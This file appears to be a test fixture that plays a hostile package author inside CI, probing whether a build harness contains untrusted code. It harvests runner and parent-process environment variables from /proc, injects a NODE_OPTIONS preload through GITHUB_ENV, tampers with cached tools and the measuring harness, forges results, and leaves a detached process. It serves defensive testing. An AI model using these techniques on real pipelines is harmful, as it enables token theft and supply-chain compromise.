// What a hostile author tries, from a build step and from a suite. What came of it is written, once for
// each, into the folder that the test put in place of @REPORT@.
import { spawn } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from "node:fs";
import { connect } from "node:net";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const REPORT = "@REPORT@";
const RUNNER_FILES = ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"];
const SHOUT = (where) =>
  `console.log("HOSTILE ${where} in " + process.env.GITHUB_JOB + " with token [" + process.env.INPUT_TOKEN + "]");\n`;

export async function attack(where) {
  const report = join(REPORT, `${where}.json`);
  if (existsSync(report)) return;
  await leaveProcess(where);
  const above = environmentsAbove();
  const got = {
    told: namesOfInterest(process.env),
    seenAbove: [...new Set(above.flatMap(namesOfInterest))].sort(),
    runnerFiles: [process.env, ...above].flatMap(writeRunnerFiles).length,
    editedTools: editTools(),
    harness: overwriteHarness(),
    results: forgeResults(),
    network: await call(Number("@PORT@")),
  };
  writeFileSync(report, JSON.stringify(got));
}

/** (a) Names of what a runner tells its steps, and of whatever holds a planted secret. */
function namesOfInterest(env) {
  const found = Object.entries(env).filter(
    ([name, value]) =>
      /^(INPUT|ACTIONS|GITHUB|RUNNER|STATE)_/.test(name) || value.includes("planted"),
  );
  return found.map(([name]) => name).sort();
}

/** (a) The environments of the processes that started this one, as /proc shows them. */
function environmentsAbove() {
  const found = [];
  for (let pid = process.ppid; pid > 1; ) {
    try {
      const lines = readFileSync(`/proc/${pid}/environ`, "utf8").split("\0");
      found.push(Object.fromEntries(lines.map((line) => line.split(/=(.*)/s).slice(0, 2))));
      pid = Number(/\) \S (\d+)/.exec(readFileSync(`/proc/${pid}/stat`, "utf8"))?.[1] ?? 0);
    } catch {
      return found;
    }
  }
  return found.map((env) => Object.fromEntries(Object.entries(env).filter(([, value]) => value)));
}

/** (b) What every later step would read: a module that it loads first. */
function writeRunnerFiles(env) {
  const module = join(REPORT, "preload.cjs");
  writeFileSync(module, SHOUT("preload"));
  return RUNNER_FILES.filter((name) => env[name]).map((name) => {
    const text = name === "GITHUB_PATH" ? REPORT : `NODE_OPTIONS=--require=${module}`;
    appendFileSync(env[name], `${text}\n`);
    return name;
  });
}

/** (c) The built tools of trusted jobs: as many bytes as before, and another program. */
function editTools() {
  const cache = process.env.RVP_CACHE_DIR ?? "";
  const tools = readdirSync(cache)
    .map((name) => join(cache, name, "toy.mjs"))
    .filter(existsSync);
  for (const tool of tools) {
    const [first = "", ...rest] = readFileSync(tool, "utf8").split("\n");
    const line = `throw "HOSTILE tool"`.padEnd(first.length, "/");
    writeFileSync(tool, [line, ...rest].join("\n"));
  }
  return tools.length;
}

/** (f) The action that measures, where it lies in the workspace. */
function overwriteHarness() {
  for (
    let folder = process.env.GITHUB_WORKSPACE ?? process.cwd();
    folder !== "/";
    folder = dirname(folder)
  ) {
    const harness = join(folder, "dist/action.mjs");
    if (!existsSync(harness)) continue;
    writeFileSync(harness, SHOUT("harness"));
    return true;
  }
  return false;
}

/** (f) What the job is about to write. */
function forgeResults() {
  mkdirSync("results", { recursive: true });
  writeFileSync("results/results.json", `{ "forged": true }`);
  return true;
}

/** (e) A server of this very machine; a request that says who calls. */
function call(port) {
  return new Promise((resolve) => {
    const socket = connect(port, "127.0.0.1");
    socket.on("connect", () => socket.end()).on("close", () => resolve("reached"));
    socket.on("error", ({ code }) => resolve(code));
  });
}

/** (d) A process in a session of its own that shows that it lives, for two minutes at most. */
async function leaveProcess(where) {
  const file = join(REPORT, `alive-${where}`);
  const code = `setInterval(() => fs.writeFileSync(${JSON.stringify(file)}, String(Date.now())), 20); setTimeout(process.exit, 120_000)`;
  const child = spawn(process.execPath, ["-e", code], { detached: true, stdio: "ignore" });
  child.unref();
  while (!existsSync(file)) await new Promise((resolve) => setTimeout(resolve, 20));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) await attack(process.argv[2]);
